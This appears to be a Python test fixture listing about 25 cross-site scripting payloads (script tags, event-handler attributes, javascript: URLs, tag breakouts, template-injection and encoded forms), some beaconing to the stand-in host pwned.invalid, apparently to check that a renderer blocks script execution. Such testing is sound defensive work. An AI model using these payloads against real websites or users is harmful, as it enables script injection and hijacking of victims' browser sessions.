"""Attempts to run a script on a page, by setting `window.pwned`, opening or calling."""

_CALL = "window.pwned=1;fetch('http://pwned.invalid/')"

PAYLOADS = [
    f"<script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<img src=http://pwned.invalid/a.png>",
    "<style>@import 'http://pwned.invalid/a.css';</style>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<a href=\"javascript:{_CALL}\">x</a>",
    f"<form action=\"javascript:{_CALL}\"><button>x</button></form>",
    "<meta http-equiv=refresh content=\"0;url=http://pwned.invalid/\">",
    f"<math><mtext><script>{_CALL}</script></mtext></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={_CALL}>\">",
    f"\"><img src=x onerror={_CALL}>",
    f"' onfocus='{_CALL}' autofocus x='",
    f"</mark></blockquote><script>{_CALL}</script>",
    f"</textarea></title><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"${{{_CALL}}}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "`+(window.pwned=1)+`",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "data:text/html,<script>parent.pwned=1</script>",
    f"[x](javascript:{_CALL}) ![x](http://pwned.invalid/a.png)",
]  # fmt: skip
